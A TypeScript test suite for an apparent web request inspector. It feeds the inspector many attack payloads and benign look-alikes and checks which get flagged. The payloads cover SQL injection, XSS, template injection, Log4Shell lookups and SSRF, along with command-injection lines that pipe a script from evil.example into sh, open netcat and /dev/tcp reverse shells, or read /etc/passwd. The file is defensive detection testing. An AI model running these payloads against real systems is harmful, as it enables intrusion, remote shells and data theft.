import { test } from 'node:test';
import assert from 'node:assert/strict';
import { everywhere, inspect, type Req } from './helpers.js';

// Every category: real payloads must be attacks (and name the category); benign look-alikes must not be.

const ATTACKS: Record<string, string[]> = {
  sqli: ["' or 1=1--", "admin'--", '1 UNION SELECT username, password FROM users', "1'; DROP TABLE users; --", "' AND SLEEP(5)#", '1) or (1=1', "x' || (select pg_sleep(10)) || '", '-1 union all select null,null,@@version--', "'; exec master..xp_cmdshell 'dir'--", "1 AND extractvalue(1, concat(0x7e, version()))", "' OR 'a'='a", '1;waitfor delay \'0:0:5\'--'],
  xss: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(document.domain)>', 'javascript:alert(1)', '<a href="jav&#x09;ascript:alert(1)">x</a>', "';alert(String.fromCharCode(88,83,83))//", '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '" autofocus onfocus="alert(1)', '${alert(1)}'],
  lfi: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/proc/self/environ'],
  rce: [';cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x.sh | sh)', '127.0.0.1; nc -e /bin/sh 10.0.0.1 4444', '&& ping -c 10 127.0.0.1', '() { :; }; /bin/bash -c "id"', 'cmd.exe /c dir', ';c\'\'at /et\'\'c/pas\'\'swd', 'powershell -enc SQBFAFgA'],
  ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'http://[::ffff:127.0.0.1]/', 'gopher://127.0.0.1:6379/_INFO', 'file:///etc/passwd', 'http://localhost/server-status', 'http://\\g\\o\\o\\g\\l\\e.\\c\\o\\m/', 'http://customer1.app.localhost.my.company.127.0.0.1.nip.io/', 'http://127-0-0-1.sslip.io/', 'http://7f000001.nip.io/',
    '<r xmlns="http://a.example/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.example/ http://c5ipg3yqo8lcutvn8bghspt.oastify.example/r.xsd">r</r>'],
  xxe: ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>'],
  ssti: ['{{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '${7*7}', '<%= system("id") %>', '#{7*7}', '{{config.items()}}', '${T(java.lang.Runtime).getRuntime().exec("id")}', '{% if True %}49{% endif %}', '<% if 1==1 %>x<% end %>', '{{#if true}}a{{/if}}', "{{7*'7'}}", '@(1+2)', "{{['id']|filter('system')}}", '{{config}}', '{{ _self }}', '{% debug %}', '{$smarty.version}',
    '{{#with "s" as |string|}}{{/with}}', '[#assign x=7*7]${x}', '#set($x = 7 * 7)$x', '{{dump(app)}}', '${class.getClassLoader()}', '${{<%[%\'"}}%\\.'],
  jndi: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://evil.example/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}'],
  php: ['<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index.php', 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'eval(base64_decode("cGhwaW5mbygpOw=="))', 'expect://id'],
  java: ['java.lang.Runtime.getRuntime().exec("id")', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==', 'new ProcessBuilder("sh").start()', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
  node: ['require("child_process").exec("id")', '_$$ND_FUNC$$_function(){require("child_process").exec("ls")}()', 'this.constructor.constructor("return process")().mainModule', 'process.mainModule.require("fs")', 'console.info(1)', 'console["log"](1)', 'console.info.call(this,1)', 'c\\u006fnsole.info(1)', "require('fs').readdirSync('.')"],
  ldapi: ['*)(uid=*))(|(uid=*', 'admin)(|(password=*))', '*)(objectClass=*'],
  crlf: ['foo\r\nSet-Cookie: session=attacker', 'x%0d%0aLocation:%20http://evil.example'],
  rfi: ['http://203.0.113.66/shell.txt?', 'https://evil.example/shell.php?', 'http://good.example/:x@evil.example/', 'http://a@b@evil.example/', 'http://good.example\\@evil.example/', 'http://good.example#@evil.example',
    '//evil.example/shell.txt?', 'http:evil.example/shell.txt?', 'http://evil.example/shell.txt%00', 'http://localhost%00.evil.example/', 'http://evil.example%23.trusted.example/',
    '\\\\evil.example\\share\\shell.php', '\\\\203.0.113.7\\x\\cmd.asp'],
};

const BENIGN: string[] = [
  'select specialty hospital', 'having friends over is nice', 'how to grep a log file', 'drop shipping', "Conor O'Brien", "D'Angelo's pizza", 'union station parking',
  'Tom & Jerry', 'rock & roll', 'price < 50 and size > 10', "It's 5 o'clock somewhere", 'Please delete my old address; the new one is 12 Main St.',
  'Select your favourite colour from the list below', 'The "premium" plan is $19.99/month', 'see https://example.com/help?topic=returns&lang=en',
  'C:\\Program Files\\App', 'cat food delivery', 'who am i', 'date night ideas', '1+1=2', 'email@example.com', '2024-06-17T09:00:00Z', '€17,99',
  'We moved the docs to ../guide/setup.md', 'Use {{name}} as a placeholder', 'Cost: ${price}', 'node.js require vs import', 'a (b) c', 'OR', 'and',
  'Is <b>bold</b> supported?', 'javascript: the good parts', 'java.util.List is an interface', 'this is the 1st of the month', "don't; won't; can't",
  'console.log(x) prints undefined', 'console.log(err)', 'Console.Log(entries)', 'Console (retro edition)', 'process (step 2)', '{% if user.is_authenticated %}Hi {{ user.name }}{% endif %}',
  `<p>Hello {{ name }}</p>${'{% if false %}<p>old banner, switched off</p>{% endif %}'}<p>${'Thanks for your order. '.repeat(5)}</p>`,
  'C:\\Users\\grace\\AppData', 'https://mastodon.social/@user@other.example', 'https://www.threads.net/@john.doe', 'https://maps.example.com/@51.5,-0.1,12z',
  'https://user:secret@files.example.com/x', 'Call me @(555) 123-4567', 'Hello {{ name }}, your {{ order }} shipped', '{{#with person as |p|}}{{p.name}}{{/with}}', 'Hi {{request}} team',
  '<#assign name="Bob">', 'Which syntax: {{a}}, ${b} or <%= c %>?', 'dump(data)', '#set the #1 priority',
  '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
  '<Configuration xmlns="http://logging.apache.org/log4j/2.0/config" xsi:schemaLocation="http://logging.apache.org/log4j/2.0/config https://raw.githubusercontent.com/apache/logging-log4j2/2.x/log4j-core/src/main/resources/Log4j-config.xsd">',
  'ftp://john%40example.com:secret@ftp.example.com/', 'https://cdn.example.com/app.js?v=3', 'see //wiki/page?', 'What is https?', '@(Model.Name)', "{{ items|map(attribute='name')|join(', ') }}", '${formatPrice(total)}', 'Set the cookie; expires= is optional', 'document.cookie is empty; path=/ did not help', '\\\\fileserver\\share\\report.xlsx',
];

for (const [category, payloads] of Object.entries(ATTACKS)) {
  test(`${category}: attack payloads are flagged`, () => {
    for (const p of payloads) {
      const reqs: Req[] = category === 'crlf' ? [{ query: `next=${p.includes('%') ? p : encodeURIComponent(p)}` }] : everywhere(p);
      for (const r of reqs) {
        const res = inspect(r);
        assert.ok(res.attack, `${category} not flagged: ${p} (${JSON.stringify(r).slice(0, 80)}) → ${JSON.stringify(res.findings)}`);
        assert.ok(res.findings.length > 0);
      }
    }
  });
}

test('benign look-alikes pass in every location', () => {
  for (const b of BENIGN) {
    for (const r of everywhere(b)) {
      const res = inspect(r);
      assert.equal(res.attack, false, `false positive: ${b} → ${JSON.stringify(res.findings)}`);
    }
  }
});

test('findings carry category, rule, severity, confidence, score, location and short evidence', () => {
  const res = inspect({ body: JSON.stringify({ user: { name: "x' UNION SELECT password FROM users--" + 'a'.repeat(200) } }), contentType: 'application/json' });
  const f = res.findings.find((x) => x.category === 'sqli');
  assert.ok(f);
  assert.equal(f.location, 'body:/user/name');
  assert.match(f.rule, /^sqli\./);
  assert.ok(['low', 'medium', 'high', 'critical'].includes(f.severity));
  assert.ok(f.confidence > 0 && f.confidence <= 1 && f.score > 0);
  assert.ok(f.evidence.length <= 80);
});

test('JSON keys, query keys and cookies are inspected', () => {
  assert.ok(inspect({ body: '{"user":{"$ne":null}}', contentType: 'application/json' }).findings.some((f) => f.category === 'nosqli'));
  assert.ok(inspect({ query: 'user[$ne]=x' }).attack);
  assert.ok(inspect({ body: '{"__proto__":{"admin":true}}', contentType: 'application/json' }).attack);
  assert.ok(inspect({ query: 'a[constructor][prototype][admin]=1' }).attack);
  assert.ok(inspect({ headers: { cookie: "sid=abc; pref=' or 1=1--" } }).attack);
  assert.ok(inspect({ headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }).attack);
  assert.ok(inspect({ headers: { 'x-api-version': '${jndi:ldap://x.example/a}' } }).attack);
});

test('multipart fields and file names, and XML bodies', () => {
  const mp = ['--XyZ', 'Content-Disposition: form-data; name="title"', '', "x' or 1=1--", '--XyZ', 'Content-Disposition: form-data; name="file"; filename="shell.php"', 'Content-Type: text/plain', '', 'hello', '--XyZ--', ''].join('\r\n');
  const res = inspect({ body: mp, contentType: 'multipart/form-data; boundary=XyZ' });
  assert.ok(res.findings.some((f) => f.location === 'body:title' && f.category === 'sqli'), JSON.stringify(res.findings));
  assert.ok(res.findings.some((f) => f.location === 'filename:file'), JSON.stringify(res.findings));
  const xml = inspect({ body: '<order><note>fine</note><item id="1 UNION SELECT password FROM users--"/></order>', contentType: 'application/xml' });
  assert.ok(xml.findings.some((f) => f.location === 'body:/item/@id'), JSON.stringify(xml.findings));
  assert.equal(inspect({ body: '<order><note>Conor O\'Brien wants it by Friday</note></order>', contentType: 'application/xml' }).attack, false);
});

test('paranoia enables aggressive rules; threshold and exclusions change the verdict', () => {
  const off = { query: 'link=https://partner.example/page' };
  assert.equal(inspect(off).findings.length, 0);
  assert.ok(inspect(off, { paranoia: 2 }).findings.some((f) => f.rule === 'rfi.off-domain-url'));
  const sqli = { query: `q=${encodeURIComponent("' or 1=1--")}` };
  assert.equal(inspect(sqli, { threshold: 1000 }).attack, false);
  assert.equal(inspect(sqli, { exclusions: [{ category: 'sqli' }] }).attack, false);
  assert.equal(inspect(sqli, { exclusions: [{ location: 'query:q' }] }).attack, false);
  assert.equal(inspect(sqli, { exclusions: [{ location: 'query:other' }] }).attack, true);
  assert.equal(inspect(sqli, { exclusions: [{ rule: 'sqli.*' }] }).attack, false);
});

test('a separator in prose scores lower than an injected command', () => {
  const prose = inspect({ query: `q=${encodeURIComponent('how to use grep | sort')}` });
  const attack = inspect({ query: `q=${encodeURIComponent(';cat /etc/passwd')}` });
  assert.ok(prose.score < attack.score, `${prose.score} vs ${attack.score}`);
  assert.equal(prose.attack, false);
});

// Shapes added with the CRS-driven work: each attack class next to prose that shares its words.
test('fragments, evasions and encodings are attacks; prose that quotes code is not', () => {
  const attacks = [
    "foo')waitfor delay'5:0:20'--", "2010-01-01' sleep(20.to_i) '", "admin@example.com';", "1='1' or-- -", 'DR/**/OP/*bypass*/sampletable',
    '0/**/union/*!50000select*/table_name', 'concat(', 'INFORMATION_SCHEMA', 'union select col from', "OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb",
    'IF /I "%var%" NEQ "0" ECHO inequality', '/etc/pas[s]wd', 'alias -p x=id', ';cpulimit -l 100 -f whoami', '1;.sh whoami',
    "d=/dev&&(sh)0>/dev/tcp/198.51.100.9/777", "'formaction=", 'ja&tab;vascript:', '(![]+[])[+!+[]]', '-moz-binding:url(http://x.example/x.xml#x)',
    '<?xml :echo 1;', '(system)(ls);', "$ {'fdf'}", 'memory_limit = 512M', 'process["env"]',
  ];
  for (const a of attacks) assert.ok(inspect({ query: `v=${encodeURIComponent(a)}` }).attack, a);
  // a form body sent as one key and a base64-encoded cookie are looked inside
  assert.ok(inspect({ body: 'pay%3DAND+2771%3D1709%29', contentType: 'application/x-www-form-urlencoded' }).attack);
  assert.ok(inspect({ headers: { cookie: `t=${Buffer.from('require("child_process").exec(\'id\')').toString('base64')}` } }).attack);
  const benign = [
    'I ran `git pull && npm install && npm start` and got the same error.', 'My script does: cat access.log | grep 404 | wc -l — is there a faster way?',
    'Could you send the output of `uname -a` and the last 50 lines of /var/log/app.log?', '../assets/logo.svg', 'curl/8.5.0', 'touch screen',
    'python os.system alternative', "SELECT id, subject FROM tickets WHERE status = 'open' ORDER BY created_at DESC", 'Benchmark: 12k req/s before, 15k after',
    'category: sleep', 'union jack flag', "O'Reilly auto parts", '```sh\ncurl -s https://api.example.com/health | jq .status\n```',
  ];
  for (const b of benign) assert.equal(inspect({ body: JSON.stringify({ text: b }), contentType: 'application/json' }).attack, false, b);
});

test('paranoia 2 blocks on one high-confidence finding', () => {
  const probe = { query: `v=${encodeURIComponent('AND deleted = 0)')}` };
  assert.equal(inspect(probe).attack, false);
  assert.equal(inspect(probe, { paranoia: 2 }).attack, true);
});

test('the /etc/hosts loopback aliases are internal hosts in URL parameters; a public host there is not', () => {
  for (const h of ['localhost4.localdomain4/', 'ipv6-localhost/', 'http://localhost6.localdomain6:8080/admin']) assert.ok(inspect({ query: `url=${encodeURIComponent(h)}` }).attack, h);
  assert.equal(inspect({ query: `url=${encodeURIComponent('status.example.com/')}` }).attack, false);
});

test('a cookie written with attributes as the whole value is session fixation; prose about cookies is not', () => {
  for (const p of ['.cookie;expires=', 'document.cookie="sid=1";domain=.example.com']) assert.ok(inspect({ query: `q=${encodeURIComponent(p)}` }).attack, p);
});
